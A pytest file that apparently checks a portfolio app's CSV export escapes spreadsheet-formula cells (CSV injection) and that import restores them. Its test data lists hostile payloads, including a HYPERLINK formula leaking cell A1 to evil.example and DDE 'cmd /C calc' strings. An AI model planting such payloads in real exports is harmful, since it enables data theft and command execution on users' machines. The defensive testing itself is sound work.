"""CSV export never writes a cell a spreadsheet would run as a formula (OWASP "CSV
injection"): a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets
a `'` before it; numbers stay numbers. The import takes that `'` off again, so what is
exported comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portfoliowise.adapters.portfolio_csv import (
    FORMULA_STARTS,
    csv_document,
    escape_cell,
    portfolio_to_csv,
    unescape_cell,
)
from portfoliowise.adapters.portfolio_files import parse_portfolio_document
from portfoliowise.domain.errors import OutOfRange
from portfoliowise.domain.money import JPY, Money
from portfoliowise.domain.portfolio import Holding, Portfolio

AT = datetime(2026, 11, 28, 2, 0, tzinfo=UTC)
ATTACKS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def portfolio(*holdings: Holding) -> Portfolio:
    return Portfolio(
        user_id="u1",
        portfolio_id="p1",
        name="mine",
        base_currency=JPY,
        created_at=AT,
        holdings=holdings,
    )


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def read_back(text: str) -> Portfolio:
    document = csv_document(text, name="mine", base_currency="JPY")
    return parse_portfolio_document(document, at=AT, default_name="mine").portfolio


@pytest.mark.parametrize("attack", ATTACKS)
def test_export_neutralises_a_formula_in_every_text_cell(attack: str) -> None:
    holding = Holding.of("7203", 100, sector=attack, region=attack, name=attack)

    [row] = rows(portfolio_to_csv(portfolio(holding)))

    for column in ("sector", "region", "name"):
        assert row[column] == "'" + attack
        assert not row[column].startswith(FORMULA_STARTS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_export_writes_import_reads_back(attack: str) -> None:
    holding = Holding.of(
        "7203", "100", cost_basis=Money.of(250_000, JPY), sector=attack, region=attack, name=attack
    )

    [back] = read_back(portfolio_to_csv(portfolio(holding))).holdings

    assert back == holding


def test_numbers_are_written_as_numbers() -> None:
    holding = Holding.of("VTI", "10.5", cost_basis=Money.of("1500.25", "USD"), name="Vanguard")

    [row] = rows(portfolio_to_csv(portfolio(holding)))

    assert (row["quantity"], row["costBasis"], row["name"]) == ("10.5", "1500.25", "Vanguard")


def test_a_text_already_starting_with_a_quote_keeps_it() -> None:
    names = ["'=already quoted", "''@twice", "'plain", "it's fine", "a=b", "-"]
    holdings = [
        Holding.of(code, 100, name=name)
        for code, name in zip(("7203", "6758", "8306", "9984", "7974", "6501"), names, strict=True)
    ]

    back = read_back(portfolio_to_csv(portfolio(*holdings))).holdings

    assert [h.name for h in back] == names


def test_a_negative_number_is_a_number_not_text() -> None:
    # Quantities and costs cannot be negative; a cell of a numeric column is never
    # quoted, so a number a spreadsheet shows stays one.
    assert escape_cell("-1") == "'-1"  # as text it would be quoted ...
    document = csv_document("symbol,quantity\n7203,-100\n", name="m", base_currency="JPY")
    assert document["holdings"][0]["quantity"] == "-100"  # ... as a number, never


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_unescape_inverts_escape(text: str) -> None:
    escaped = escape_cell(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == text


def test_a_quantity_is_read_exactly() -> None:
    [back] = read_back(portfolio_to_csv(portfolio(Holding.of("VTI", "0.0001")))).holdings
    assert back.quantity == Decimal("0.0001")


def test_a_csv_with_carriage_returns_only_reads_as_lines() -> None:
    document = csv_document("symbol,quantity\r7203,100\r", name="m", base_currency="JPY")
    assert document["holdings"] == [{"symbol": "7203", "quantity": "100"}]


def test_a_cell_over_csvs_field_limit_is_out_of_range() -> None:
    text = 'symbol,quantity,name\n7203,100,"' + "x" * 200_000 + '"\n'
    with pytest.raises(OutOfRange) as caught:
        csv_document(text, name="m", base_currency="JPY")
    assert caught.value.code == "out_of_range"
    assert len(str(caught.value)) < 200
